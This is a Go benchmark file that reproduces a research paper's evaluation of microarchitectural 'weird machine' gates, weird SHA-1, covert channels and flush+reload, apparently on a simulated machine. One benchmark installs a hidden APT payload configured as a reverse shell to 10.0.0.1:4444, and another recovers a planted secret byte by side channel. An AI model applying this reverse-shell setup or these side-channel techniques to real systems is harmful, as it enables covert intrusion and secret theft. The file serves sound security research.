// Package uwm's root benchmarks regenerate every table and figure of
// the paper's evaluation section, one benchmark per experiment. Each
// benchmark drives the same code path as cmd/uwm-bench (package
// evalharness) at sizes scaled for `go test -bench`; run
//
//	go test -bench=. -benchmem
//
// for the suite, or `go run ./cmd/uwm-bench -all -full` for the
// paper-sized runs recorded in EXPERIMENTS.md.
package uwm_test

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/covert"
	"uwm/internal/evalharness"
	"uwm/internal/flightrec"
	"uwm/internal/noise"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/trace"
	"uwm/internal/wmapt"
)

// benchParams keeps the harness runs small enough for benchmarking.
func benchParams() evalharness.Params {
	p := evalharness.Quick()
	p.Table2Ops = 800
	p.Table5Ops = 2000
	p.Table6Ops = 500
	p.Table8Ops = 2000
	p.Experiments = 5
	p.FigureOps = 1000
	return p
}

// BenchmarkTable2_GatePerformance regenerates the Table 2 overview:
// per-gate throughput and accuracy for both gate families.
func BenchmarkTable2_GatePerformance(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table2(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable3_WmAptTriggers regenerates the Table 3 trigger-count
// statistics (and Figure 6's underlying histogram data).
func BenchmarkTable3_WmAptTriggers(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, _, err := evalharness.Table3(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable4_SHA1Correctness regenerates the Table 4 SHA-1
// gate-correctness experiment (one block, reduced redundancy).
func BenchmarkTable4_SHA1Correctness(b *testing.B) {
	p := benchParams()
	p.SHA1S, p.SHA1K, p.SHA1N = 1, 1, 1
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table4(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable5_BPGateAccuracy regenerates the Table 5 BP/IC gate
// accuracy evaluation.
func BenchmarkTable5_BPGateAccuracy(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table5(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable6_TSXAndOrDelay regenerates the Table 6 delay
// distributions of the Figure 3 circuit.
func BenchmarkTable6_TSXAndOrDelay(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table6(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable7_TSXXorDelay regenerates the Table 7 delay
// distributions of the §4.1 XOR circuit.
func BenchmarkTable7_TSXXorDelay(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table7(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable8_TSXAccuracy regenerates the Table 8 TSX gate
// accuracy/abort table.
func BenchmarkTable8_TSXAccuracy(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Table8(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure6_TriggerHistogram renders Figure 6 from fresh
// trigger-experiment data.
func BenchmarkFigure6_TriggerHistogram(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		_, counts, err := evalharness.Table3(p)
		if err != nil {
			b.Fatal(err)
		}
		if s := evalharness.Figure6(counts); len(s) == 0 {
			b.Fatal("empty figure")
		}
	}
}

// BenchmarkFigure7_AndGateKDE regenerates the Figure 7 timing KDE.
func BenchmarkFigure7_AndGateKDE(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.FigureKDE(p, "AND"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure8_OrGateKDE regenerates the Figure 8 timing KDE.
func BenchmarkFigure8_OrGateKDE(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.FigureKDE(p, "OR"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAblations runs the design-choice ablation sweep.
func BenchmarkAblations(b *testing.B) {
	p := benchParams()
	for i := 0; i < b.N; i++ {
		if _, err := evalharness.Ablations(p); err != nil {
			b.Fatal(err)
		}
	}
}

// --- Micro-benchmarks: single-operation costs, reported per gate op ---

// BenchmarkGateOp_BPAnd measures one full BP AND activation (train,
// flush, fire, timed read).
func BenchmarkGateOp_BPAnd(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 4})
	g, err := core.NewBPAnd(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_TSXAnd measures one full TSX AND activation.
func BenchmarkGateOp_TSXAnd(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	g, err := core.NewTSXAnd(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_TSXXor measures the three-transaction weird XOR.
func BenchmarkGateOp_TSXXor(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	g, err := core.NewTSXXor(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_BPAndTraced is BenchmarkGateOp_BPAnd under a live
// recorder the size of a flight-recorder capture: every committed and
// transient instruction becomes an event.
func BenchmarkGateOp_BPAndTraced(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 4, Sink: trace.NewRecorder(4096)})
	g, err := core.NewBPAnd(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_BPAndCaptured is BenchmarkGateOp_BPAnd feeding a
// flight-recorder Tap at the serving defaults (4096-event captures,
// every trace kept), one job per 16 activations: the per-job capture
// cost a served gate job pays, spread over its activations.
func BenchmarkGateOp_BPAndCaptured(b *testing.B) {
	rec := flightrec.New(flightrec.Config{HeadRate: 1})
	tap := flightrec.NewTap()
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 4, Sink: tap})
	g, err := core.NewBPAnd(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	var c *flightrec.Capture
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if i%16 == 0 {
			if c != nil {
				rec.Finish(c, flightrec.Outcome{Status: "done"})
			}
			c = rec.Begin(tap, flightrec.Meta{JobID: "job", Type: "gate"})
			tap.Set(c)
		}
		if _, err := g.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOp_TSXXorTraced is BenchmarkGateOp_TSXXor under a live
// recorder the size of a flight-recorder capture.
func BenchmarkGateOp_TSXXorTraced(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, Sink: trace.NewRecorder(4096)})
	g, err := core.NewTSXXor(m)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	in, bits, deltas := make([]int, 2), make([]int, g.Outputs()), make([]int64, g.Outputs())
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		in[0], in[1] = rng.Bit(), rng.Bit()
		if err := g.Activate(in, bits, deltas); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAdd32 measures a weird 32-bit addition (32 full adders).
func BenchmarkAdd32(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 3})
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := sk.Add32(rng.Uint32(), rng.Uint32()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkWeirdSHA1Block measures one SHA-1 block on weird gates.
func BenchmarkWeirdSHA1Block(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1, TrainIterations: 3})
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		b.Fatal(err)
	}
	h := sha1wm.New(sk)
	msg := []byte("abc")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := h.Sum(msg); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAptPing measures one silent-phase ping (10 weird 160-bit XOR
// transforms).
func BenchmarkAptPing(b *testing.B) {
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Seed: 9, EvalMultiple: 1})
	if err != nil {
		b.Fatal(err)
	}
	pad, err := apt.Install(wmapt.ReverseShell{Addr: "10.0.0.1", Port: 4444})
	if err != nil {
		b.Fatal(err)
	}
	wrong := pad
	wrong[0] ^= 0xFF
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := apt.HandlePing(wrong); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCovertChannelDCWR measures covert-channel bit transfer over
// a data-cache weird register (§3.1's covert-channel framing).
func BenchmarkCovertChannelDCWR(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	wr, err := core.NewDCWR(m)
	if err != nil {
		b.Fatal(err)
	}
	ch := covert.NewChannel(wr, 1)
	payload := []byte{0xA5}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ch.Transfer(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFlushReloadByte measures one full flush+reload secret-byte
// recovery (2 victim runs + 32 timed probes).
func BenchmarkFlushReloadByte(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	fr, err := covert.NewFlushReload(m)
	if err != nil {
		b.Fatal(err)
	}
	fr.PlantSecret(0x5C)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := fr.RecoverSecret(1); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCompiledCircuitXor measures a compiled weird-circuit XOR
// (4 chained transactions per evaluation).
func BenchmarkCompiledCircuitXor(b *testing.B) {
	m := core.MustNewMachine(core.Options{Seed: 1})
	s := core.NewCircuitSpec(2)
	s.Output(s.Xor(0, 1))
	c, err := core.CompileCircuit(m, s)
	if err != nil {
		b.Fatal(err)
	}
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Run(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}
